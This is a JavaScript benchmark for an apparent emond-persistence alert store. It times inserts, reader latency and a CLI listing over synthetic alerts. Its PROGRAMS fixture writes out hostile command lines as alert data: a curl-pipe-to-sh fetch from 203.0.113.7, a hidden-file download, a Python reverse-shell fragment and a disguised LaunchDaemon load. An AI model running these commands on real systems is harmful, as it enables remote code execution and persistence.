// Benchmark of the alert store (issue 4): inserts/s batched vs one transaction per alert, end-to-
// end latency from an alert entering the fan-out to its row being visible to another connection,
// and `emondguard alerts list --since 24h` on a database of 1 million alerts, through the built CLI.
// Prints one Markdown section on stdout; progress on stderr.
import { spawnSync } from 'node:child_process';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { Worker } from 'node:worker_threads';
import { createAlertFanOut } from '../../dist/alerts/alert-fanout.js';
import { AlertStore } from '../../dist/storage/alert-store.js';

const root = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '../..');
const cli = path.join(root, 'dist', 'cli', 'main.js');
const work = fs.mkdtempSync(path.join(os.tmpdir(), 'emondguard-bench-store-'));
const log = (text) => process.stderr.write(`${text}\n`);
const GOALS = { insertsPerSecond: 50_000, p99VisibleMs: 50, listMs: 100 };
const RULE = { id: '3e3d15c6-1509-479a-b125-21718372157e', name: 'Suspicious Emond Child Process', max_signals: 100, interval: '5m', note: 'guide' };
const THREAT = [{ framework: 'MITRE ATT&CK', tactic: { id: 'TA0003', name: 'Persistence', reference: 'https://attack.mitre.org/tactics/TA0003/' }, technique: [{ id: 'T1546', name: 'Event Triggered Execution', reference: 'https://attack.mitre.org/techniques/T1546/', subtechnique: [{ id: 'T1546.014', name: 'Emond', reference: 'https://attack.mitre.org/techniques/T1546/014/' }] }] }];
// One rule block per rule shared by its alerts, as an alert builder reuses the compiled rule's.
const RULE_BLOCK = { id: RULE.id, name: RULE.name, version: 108, severity: 'medium', risk_score: 47, description: 'Identifies the execution of a suspicious child process of the Event Monitor Daemon (emond).', reference: ['https://www.xorrior.com/emond-persistence/'], author: ['Elastic'], license: 'Elastic License v2', ruleset: 'builtin' };
const PROGRAMS = [
  ['/bin/sh', ['sh', '-c', 'curl -fsSL http://203.0.113.7/stage2.sh | sh']],
  ['/usr/bin/curl', ['curl', '-o', '/tmp/.x', 'http://203.0.113.7/x']],
  ['/usr/bin/python3', ['python3', '-c', 'import socket,subprocess,os;s=socket.socket()']],
  ['/bin/launchctl', ['launchctl', 'load', '-w', '/Library/LaunchDaemons/com.apple.updater.plist']],
];

/** A realistic alert document (the shape buildAlert produces), unique per n. */
function alertDoc(n, timeMs, marker = String(n)) {
  const time = new Date(timeMs).toISOString();
  const [executable, baseArgs] = PROGRAMS[n % PROGRAMS.length];
  const args = [...baseArgs, marker];
  return {
    '@timestamp': time,
    event: { kind: 'alert', category: ['process'], type: ['start'], action: 'exec', module: 'endpoint-security', sequence: n, created: time, severity: 47, risk_score: 47 },
    host: { name: 'mac-bench-01', os: { type: 'macos', version: '14.6.1' } },
    process: {
      pid: 10_000 + (n % 50_000), entity_id: `${10_000 + (n % 50_000)}:${n}:${time}`, name: path.basename(executable), executable, args,
      args_count: args.length, command_line: args.join(' '), working_directory: '/',
      start: time, code_signature: { exists: true, signing_id: 'com.apple.sh', team_id: '', trusted: true },
      parent: { pid: 311, entity_id: '311:1:2025-08-01T00:00:00.000Z', name: 'emond', executable: '/sbin/emond', start: '2025-08-01T00:00:00.000Z' },
    },
    user: { id: '0', name: 'root' },
    group: { id: '0' },
    es: { message_version: 7, seq_num: n, global_seq_num: n, pidversion: n, ppid: 311, original_ppid: 311, parent_pidversion: 1, is_platform_binary: true, parent_resolution: 'tree' },
    rule: RULE_BLOCK,
    threat: THREAT,
    emondguard: { count: 1 },
  };
}

const seconds = (start) => Number(process.hrtime.bigint() - start) / 1e9;
const fmt = (n, digits = 0) => n.toLocaleString('en-US', { maximumFractionDigits: digits, minimumFractionDigits: digits });
const pass = (ok) => (ok ? '✅ pass' : '❌ fail');
const median = (values) => [...values].sort((a, b) => a - b)[Math.floor(values.length / 2)];
function percentile(sorted, p) {
  return sorted[Math.min(sorted.length - 1, Math.floor((p / 100) * sorted.length))];
}

// ---------------------------------------------------------------- the shared machine
// Other engineers' builds and tests run on this machine. Before each timed section, wait (up to
// QUIET_WAIT_S) for the 1-minute load average to drop below QUIET_LOAD, and report the load each
// figure was measured under. CPU time is reported beside wall time: it is what the work costs,
// whoever else wants the cores.
const QUIET_LOAD = Number(process.env.BENCH_QUIET_LOAD ?? 1.0);
const QUIET_WAIT_S = Number(process.env.BENCH_QUIET_WAIT_S ?? 60);
const pause = new Int32Array(new SharedArrayBuffer(4));
const load1 = () => os.loadavg()[0];
function waitForQuiet(section) {
  const started = Date.now();
  while (load1() > QUIET_LOAD && Date.now() - started < QUIET_WAIT_S * 1000) Atomics.wait(pause, 0, 0, 2000);
  log(`${section}: load ${load1().toFixed(2)} after waiting ${((Date.now() - started) / 1000).toFixed(0)} s`);
  return load1();
}

/** CPU seconds of this process's main thread (Linux: /proc), else undefined. */
function mainThreadCpu() {
  try {
    const fields = fs.readFileSync(`/proc/self/task/${process.pid}/stat`, 'utf8').split(') ')[1].split(' ');
    return (Number(fields[11]) + Number(fields[12])) / 100; // utime, stime in clock ticks (USER_HZ)
  } catch {
    return undefined;
  }
}
/** CPU seconds of waited-for children (Linux: /proc/self/stat cutime + cstime), else undefined. */
function childrenCpu() {
  try {
    const fields = fs.readFileSync('/proc/self/stat', 'utf8').split(') ')[1].split(' ');
    return (Number(fields[13]) + Number(fields[14])) / 100;
  } catch {
    return undefined;
  }
}
/** Runs `work` and returns wall seconds, CPU seconds of all threads and of the main thread. */
function measure(work) {
  const cpu0 = process.cpuUsage();
  const main0 = mainThreadCpu();
  const start = process.hrtime.bigint();
  work();
  const wall = seconds(start);
  const cpu = process.cpuUsage(cpu0);
  const main1 = mainThreadCpu();
  return { wall, cpu: (cpu.user + cpu.system) / 1e6, main: main0 === undefined || main1 === undefined ? undefined : main1 - main0 };
}
const fmtUs = (us) => (us === undefined ? '–' : fmt(us, 1));

// ---------------------------------------------------------------- 1. inserts per second
const REPEATS = 5;

/** Alerts committed 1,000 per transaction; only the commits are timed, not building the documents. */
function batchedRun(synchronous, total, run) {
  const store = AlertStore.open(path.join(work, `batched-${synchronous}-${run}`, 'alerts.db'), { synchronous });
  const sum = { wall: 0, cpu: 0, main: 0 };
  let largestWal = 0;
  for (let i = 0; i < total; i += 1000) {
    const alerts = Array.from({ length: 1000 }, (_, j) => ({ document: alertDoc(i + j, Date.now()) }));
    const m = measure(() => store.commit({ alerts }));
    sum.wall += m.wall;
    sum.cpu += m.cpu;
    sum.main = m.main === undefined || sum.main === undefined ? undefined : sum.main + m.main;
    largestWal = Math.max(largestWal, fs.statSync(`${store.file}-wal`).size);
  }
  store.close();
  return { ...sum, rate: total / sum.wall, largestWal };
}

function singleRun(synchronous, count, run) {
  const store = AlertStore.open(path.join(work, `single-${synchronous}-${run}`, 'alerts.db'), { synchronous });
  const docs = Array.from({ length: count }, (_, i) => alertDoc(i, Date.now()));
  const m = measure(() => {
    for (const document of docs) store.commit({ alerts: [{ document }] });
  });
  store.close();
  return { ...m, rate: count / m.wall };
}

/**
 * What serialising the stored part of each document costs on its own: the same documents, built
 * 1,000 at a time as the batched runs do (a heap holding all of them would slow it down).
 */
function serialisationCost(total) {
  let cpu = 0;
  for (let i = 0; i < total; i += 1000) {
    const docs = Array.from({ length: 1000 }, (_, j) => alertDoc(i + j, Date.now()));
    const m = measure(() => {
      for (const document of docs) {
        const { rule: _rule, threat: _threat, ...rest } = document;
        JSON.stringify(rest);
      }
    });
    cpu += m.cpu;
  }
  return cpu;
}

/** REPEATS runs of `run`, interleaved by the caller; keeps the best (least disturbed) and the median. */
function summarise(runs, n) {
  const best = runs.reduce((a, b) => (b.rate > a.rate ? b : a));
  return {
    n,
    best: best.rate,
    median: median(runs.map((r) => r.rate)),
    mainUs: best.main === undefined ? undefined : (best.main * 1e6) / n,
    cpuUs: (best.cpu * 1e6) / n,
    largestWal: Math.max(...runs.map((r) => r.largestWal ?? 0)),
  };
}

async function fanOutRun(total) {
  const fanStore = AlertStore.open(path.join(work, `fanout-${Math.random()}`, 'alerts.db'));
  const fanOut = createAlertFanOut({ store: fanStore, throttle: false });
  const fanDocs = Array.from({ length: 1000 }, (_, j) => alertDoc(j, Date.now()));
  const cpu0 = process.cpuUsage();
  const t0 = process.hrtime.bigint();
  let sent = 0;
  await new Promise((resolve) => {
    const turn = () => {
      for (const document of fanDocs) fanOut.submit(document, RULE);
      sent += fanDocs.length;
      if (sent < total) setImmediate(turn);
      else resolve();
    };
    turn();
  });
  await fanOut.close();
  const wall = seconds(t0);
  const cpu = process.cpuUsage(cpu0);
  const commits = fanOut.stats().store.commits;
  fanStore.close();
  return { rate: total / wall, cpu: (cpu.user + cpu.system) / 1e6, commits };
}

async function insertRates() {
  const load = waitForQuiet('inserts');
  const total = 200_000;
  const singleCount = 3000;
  const runs = { singleNormal: [], singleFull: [], normal: [], full: [], fan: [] };
  for (let run = 0; run < REPEATS; run++) {
    log(`inserts: round ${run + 1} of ${REPEATS} (one per transaction and 1,000 per transaction, NORMAL and FULL; fan-out)…`);
    runs.singleNormal.push(singleRun('normal', singleCount, run));
    runs.normal.push(batchedRun('normal', total, run));
    runs.singleFull.push(singleRun('full', singleCount, run));
    runs.full.push(batchedRun('full', total, run));
    runs.fan.push(await fanOutRun(total));
  }
  const serialiseUs = (serialisationCost(total) * 1e6) / total;
  const fanBest = runs.fan.reduce((a, b) => (b.rate > a.rate ? b : a));
  return {
    load,
    loadAfter: load1(),
    total,
    singleCount,
    singleNormal: summarise(runs.singleNormal, singleCount),
    singleFull: summarise(runs.singleFull, singleCount),
    normal: summarise(runs.normal, total),
    full: summarise(runs.full, total),
    fan: { best: fanBest.rate, median: median(runs.fan.map((r) => r.rate)), cpuUs: (fanBest.cpu * 1e6) / total, commits: fanBest.commits },
    serialiseUs,
  };
}

// ---------------------------------------------------------------- 2. event in → visible to a reader
const READER = `
const { parentPort, workerData } = require('node:worker_threads');
const Database = require(workerData.sqlite);
const db = new Database(workerData.file, { readonly: true });
const next = db.prepare('SELECT id, json_extract(document, \\'$.process.args[#-1]\\') AS sent FROM alerts WHERE id > ? ORDER BY id');
let last = 0; const lat = [];
const poll = () => {
  const now = performance.timeOrigin + performance.now();
  for (const row of next.all(last)) { last = row.id; if (row.sent !== 'warm-up') lat.push(now - Number(row.sent)); }
  if (lat.length >= workerData.expect) { db.close(); parentPort.postMessage(lat); } else setTimeout(poll, 1);
};
poll();`;

/**
 * Alerts at `rate` for WARM_UP_S (not counted: the agent is a long-running process, and its first
 * second includes compiling the hot code and starting the checkpoint thread), then `durationS`
 * measured, each alert's submit time carried in its last argument.
 */
const WARM_UP_S = 1;

async function latency(rate, durationS, synchronous) {
  log(`latency: ${fmt(rate)} alerts/s for ${WARM_UP_S} + ${durationS} s, synchronous = ${synchronous}…`);
  const store = AlertStore.open(path.join(work, `latency-${rate}-${synchronous}`, 'alerts.db'), { synchronous });
  const fanOut = createAlertFanOut({ store, throttle: false });
  const expected = Math.round(rate * durationS);
  const warmUp = Math.round(rate * WARM_UP_S);
  const reader = new Worker(READER, {
    eval: true,
    workerData: { file: store.file, expect: expected, sqlite: path.join(root, 'node_modules', 'better-sqlite3') },
  });
  const done = new Promise((resolve) => reader.once('message', resolve));
  const load = load1();
  const cpu0 = process.cpuUsage();
  const t0 = performance.now();
  let sent = 0;
  await new Promise((resolve) => {
    const tick = () => {
      const due = Math.min(warmUp + expected, Math.floor(((performance.now() - t0) / 1000) * rate));
      while (sent < due) {
        // The submit time rides in the last argument, so the reader needs no side channel.
        const at = performance.timeOrigin + performance.now();
        fanOut.submit(alertDoc(sent, Date.now(), sent < warmUp ? 'warm-up' : String(at)), RULE);
        sent += 1;
      }
      if (sent < warmUp + expected) setTimeout(tick, 0);
      else resolve();
    };
    tick();
  });
  const samples = (await done).sort((a, b) => a - b);
  const cpu = process.cpuUsage(cpu0);
  const stats = fanOut.stats().store;
  await fanOut.close();
  store.close();
  await reader.terminate();
  return {
    rate, synchronous, load, n: samples.length, p50: percentile(samples, 50), p99: percentile(samples, 99), max: samples.at(-1),
    commits: stats.commits, largest: stats.largestBatch, cpuShare: (cpu.user + cpu.system) / 1e6 / (WARM_UP_S + durationS),
  };
}

// ---------------------------------------------------------------- 3. alerts list on 1M alerts
/**
 * Runs the commands round-robin (so a change in load hits all of them alike), `runs` times each
 * after one warm-up round; wall time per run, and CPU time of the child where /proc tells it.
 */
function timeCommands(commands, runs, cwd) {
  const results = commands.map(() => ({ times: [], cpu: 0, output: '' }));
  let cpuKnown = true;
  for (let round = 0; round <= runs; round++) {
    commands.forEach(({ args, env }, c) => {
      const cpu0 = childrenCpu();
      const start = process.hrtime.bigint();
      const result = spawnSync(process.execPath, args, { cwd, encoding: 'utf8', env: { ...env, NO_COLOR: '1' }, maxBuffer: 64 * 1024 * 1024 });
      const ms = Number(process.hrtime.bigint() - start) / 1e6;
      const cpu1 = childrenCpu();
      if (result.status !== 0) throw new Error(`${args.join(' ')} failed: ${result.stderr}`);
      if (round === 0) return; // the warm-up round fills the page cache
      results[c].times.push(ms);
      results[c].output = result.stdout;
      if (cpu0 === undefined || cpu1 === undefined) cpuKnown = false;
      else results[c].cpu += (cpu1 - cpu0) * 1000;
    });
  }
  return results.map((r) => {
    const sorted = [...r.times].sort((a, b) => a - b);
    return { median: percentile(sorted, 50), min: sorted[0], cpuMs: cpuKnown ? r.cpu / runs : undefined, output: r.output };
  });
}

function listOnMillion() {
  const total = 1_000_000;
  const days = 30;
  log(`list: building a ${fmt(total)}-alert database over the last ${days} days…`);
  const store = AlertStore.open(path.join(work, 'million', 'alerts.db'));
  const now = Date.now();
  const step = (days * 86_400_000) / total;
  const t0 = process.hrtime.bigint();
  for (let i = 0; i < total; i += 5000) {
    const alerts = [];
    for (let j = i; j < i + 5000; j++) alerts.push({ document: alertDoc(j, now - (total - j) * step) });
    store.commit({ alerts });
    if (i % 200_000 === 0) log(`  ${fmt(i)}…`);
  }
  const buildS = seconds(t0);
  store.close();

  const reader = AlertStore.open(store.file, { readonly: true });
  const inDay = reader.count({ since: now - 86_400_000 });
  const queries = [];
  for (let i = 0; i < 10; i++) {
    const start = process.hrtime.bigint();
    reader.list({ since: Date.now() - 86_400_000, limit: 100 });
    reader.count({ since: Date.now() - 86_400_000 });
    queries.push(seconds(start) * 1000);
  }
  const sizeBytes = reader.sizeBytes();
  reader.close();

  const load = waitForQuiet('list');
  log('list: timing the CLI against `node -e 0`, round-robin…');
  const runs = 15;
  const db = store.file;
  // Node reads the whole file NODE_EXTRA_CA_CERTS names at start-up. This machine's environment
  // sets it (a CA bundle), a Mac's does not by default: time both, side by side.
  const { NODE_EXTRA_CA_CERTS: extraCerts, ...plainEnv } = process.env;
  const envs = extraCerts === undefined ? [['', plainEnv]] : [['', plainEnv], [' with NODE_EXTRA_CA_CERTS', process.env]];
  const commands = [];
  for (const [suffix, env] of envs) {
    // The floor for any Node CLI on these two libraries: load them and open the database, no emondguard code.
    const libraries = `require('commander'); new (require('better-sqlite3'))(${JSON.stringify(db)}, { readonly: true }).pragma('user_version')`;
    commands.push(
      { key: `bare${suffix}`, args: ['-e', '0'], env },
      { key: `libraries${suffix}`, args: ['-e', libraries], env },
      { key: `version${suffix}`, args: [cli, '--version'], env },
      { key: `list24h${suffix}`, args: [cli, 'alerts', 'list', '--since', '24h', '--db', db], env },
      { key: `listAll${suffix}`, args: [cli, 'alerts', 'list', '--since', '30d', '--db', db], env },
    );
  }
  const timed = timeCommands(commands, runs, root);
  const byKey = Object.fromEntries(commands.map((c, i) => [c.key, timed[i]]));
  const rows = byKey.list24h.output.split('\n').filter((l) => /^\s*\d+ /.test(l)).length;
  return { total, buildS, inDay, queryMs: median(queries), sizeBytes, byKey, envs: envs.map(([suffix]) => suffix), extraCerts, rows, runs, load, loadAfter: load1() };
}

// ---------------------------------------------------------------- report
try {
  const inserts = await insertRates();
  const latencies = [];
  const latencyLoad = waitForQuiet('latency');
  for (const [rate, durationS] of [[100, 10], [10_000, 5]]) {
    for (const synchronous of ['normal', 'full']) latencies.push(await latency(rate, durationS, synchronous));
  }
  const list = listOnMillion();

  const loads = (a, b) => `${a.toFixed(2)} → ${b.toFixed(2)}`;
  const out = [];
  out.push('## Alert store (`store`)');
  out.push('');
  out.push('Goals (issue 4): ≥ 50,000 alerts/s batched; p99 event-in → row visible to a reader < 50 ms; `alerts list --since 24h` on 1 M alerts < 100 ms.');
  out.push(`Machine: ${os.cpus().length} cores shared with other engineers' builds and tests; before each section the benchmark waits up to ${QUIET_WAIT_S} s for the 1-minute load average to drop below ${QUIET_LOAD}, and each table gives the load it ran under (start → end). CPU time is given beside wall time: it is what the work costs, whoever else wants the cores.`);
  out.push('Writes use the production path and settings — WAL, schema version 5 (process fields read from the document, one index per insert), 16 KiB pages, multi-row inserts, the checkpoint thread — with `synchronous = NORMAL` (the default: survives the agent crashing or being killed; the checkpoint thread flushes to disk within ~0.1 s) unless a row says FULL (every commit waits for the disk). Realistic ECS documents, ~1.1 KB stored per alert.');
  out.push('');
  out.push('### Inserts per second');
  out.push('');
  out.push(`Load ${loads(inserts.load, inserts.loadAfter)}. Each configuration ran ${REPEATS} times, interleaved; alerts/s is the best run (least disturbed by other processes) with the median beside it. CPU µs per alert: the main thread (which the rate is bound by) and all threads (with the checkpoint thread).`);
  out.push('');
  out.push('| how | synchronous | alerts | alerts/s (best) | median | CPU µs/alert, main thread | all threads | vs one per transaction | goal ≥ 50,000/s |');
  out.push('| --- | --- | ---: | ---: | ---: | ---: | ---: | ---: | --- |');
  const insertRow = (how, sync, r, single, goal) =>
    out.push(`| ${how} | ${sync} | ${fmt(r.n)} | ${fmt(r.best)} | ${fmt(r.median)} | ${fmtUs(r.mainUs)} | ${fmt(r.cpuUs, 1)} | ${single ? `${fmt(r.best / single.best, 1)}×` : '1.0×'} | ${goal ? pass(r.best >= GOALS.insertsPerSecond) : ''} |`);
  insertRow('one transaction per alert', 'NORMAL', inserts.singleNormal, undefined, false);
  insertRow('`AlertStore.commit`, 1,000 per transaction', 'NORMAL', inserts.normal, inserts.singleNormal, true);
  insertRow('one transaction per alert', 'FULL', inserts.singleFull, undefined, false);
  insertRow('`AlertStore.commit`, 1,000 per transaction', 'FULL', inserts.full, inserts.singleFull, true);
  out.push(`| fan-out \`submit\` (writer batches per event-loop turn; ${fmt(inserts.fan.commits)} commits) | NORMAL | ${fmt(inserts.total)} | ${fmt(inserts.fan.best)} | ${fmt(inserts.fan.median)} | – | ${fmt(inserts.fan.cpuUs, 1)} | ${fmt(inserts.fan.best / inserts.singleNormal.best, 1)}× | ${pass(inserts.fan.best >= GOALS.insertsPerSecond)} |`);
  out.push('');
  out.push(`Where an alert's time goes: serialising the stored part of its document (\`JSON.stringify\`, measured alone on the same documents) ${fmt(inserts.serialiseUs, 1)} µs; the rest of the main thread's ${fmtUs(inserts.normal.mainUs)} µs is binding and SQLite (B-tree, index, WAL writes). ` +
    `FULL adds a disk flush per commit: its CPU is the same, its wall time is not. The WAL stayed under ${fmt(Math.max(inserts.normal.largestWal, inserts.full.largestWal) / 2 ** 20, 1)} MiB through the floods (journal size limit 64 MiB).`);
  out.push('');
  out.push('### Event in → row visible to a reader (another connection, in a worker thread polling every millisecond)');
  out.push('');
  out.push(`Each run sends alerts at its rate for ${WARM_UP_S} s first, not counted (the agent is long-running: that second compiles the hot code and starts the checkpoint thread), then measures every alert of the next seconds. The reader polls every millisecond (a reader spinning without pause would take one of the two cores from the writer), so each figure includes up to ~1 ms of polling delay. Load at the start of each row shown; ${loads(latencyLoad, load1())} over the section. CPU: the benchmark process's CPU time per second of the run (all threads, the reader included).`);
  out.push('');
  out.push('| rate | synchronous | load | alerts | p50 ms | p99 ms | max ms | commits | largest batch | CPU s/s | goal p99 < 50 ms |');
  out.push('| ---: | --- | ---: | ---: | ---: | ---: | ---: | ---: | ---: | ---: | --- |');
  for (const r of latencies) {
    out.push(`| ${fmt(r.rate)}/s | ${r.synchronous.toUpperCase()} | ${r.load.toFixed(2)} | ${fmt(r.n)} | ${fmt(r.p50, 2)} | ${fmt(r.p99, 2)} | ${fmt(r.max, 1)} | ${fmt(r.commits)} | ${fmt(r.largest)} | ${fmt(r.cpuShare, 2)} | ${pass(r.p99 < GOALS.p99VisibleMs)} |`);
  }
  out.push('');
  out.push(`### \`emondguard alerts list\` on ${fmt(list.total)} alerts`);
  out.push('');
  out.push(`Database: ${fmt(list.total)} alerts over 30 days (${fmt(list.inDay)} in the last 24 h), ${fmt(list.sizeBytes / 2 ** 20)} MiB, built in ${fmt(list.buildS, 1)} s (${fmt(list.total / list.buildS)} alerts/s, 5,000 per transaction). ` +
    `Load ${loads(list.load, list.loadAfter)}. The commands ran round-robin, ${list.runs} times each after a warm-up round: wall time of the whole process, median (min), and the child's CPU time (user + system, mean).`);
  out.push('');
  if (list.extraCerts !== undefined) {
    out.push(`This machine's environment sets \`NODE_EXTRA_CA_CERTS=${list.extraCerts}\`, which makes every Node process read and parse that CA bundle at start-up, before any of our code runs; a Mac does not set it by default. The commands ran both without it (first block, what an administrator's shell runs) and with it (second block).`);
    out.push('');
  }
  out.push('| command | median ms | min ms | CPU ms | vs `node -e 0` (median) | goal |');
  out.push('| --- | ---: | ---: | ---: | ---: | --- |');
  for (const suffix of list.envs) {
    const bare = list.byKey[`bare${suffix}`];
    const row = (name, t, goal = '') =>
      out.push(`| ${name} | ${fmt(t.median, 1)} | ${fmt(t.min, 1)} | ${t.cpuMs === undefined ? '–' : fmt(t.cpuMs, 1)} | +${fmt(t.median - bare.median, 1)} ms | ${goal} |`);
    const env = suffix === '' ? '' : ` — ${suffix.trim()}`;
    row(`\`node -e 0\` (Node start-up alone)${env}`, bare);
    row(`\`node\` loading commander and better-sqlite3 and opening the database, no emondguard code${env}`, list.byKey[`libraries${suffix}`]);
    row(`\`emondguard --version\` (CLI start-up, no database)${env}`, list.byKey[`version${suffix}`]);
    const list24h = list.byKey[`list24h${suffix}`];
    row(`\`emondguard alerts list --since 24h\` (${list.rows} rows shown, total counted)${env}`, list24h, `${pass(list24h.median < GOALS.listMs)} (< 100 ms)`);
    row(`\`emondguard alerts list --since 30d\` (all 1 M match)${env}`, list.byKey[`listAll${suffix}`]);
  }
  out.push('');
  out.push(`The query itself (list the 100 newest of the last 24 h and count the matches, in process, median of 10): ${fmt(list.queryMs, 1)} ms. ` +
    'The rest of the CLI time is starting Node, loading the CLI (commander and the `alerts` command; no other command\'s code) and SQLite, and printing.');
  process.stdout.write(`${out.join('\n')}\n`);
} finally {
  fs.rmSync(work, { recursive: true, force: true });
}
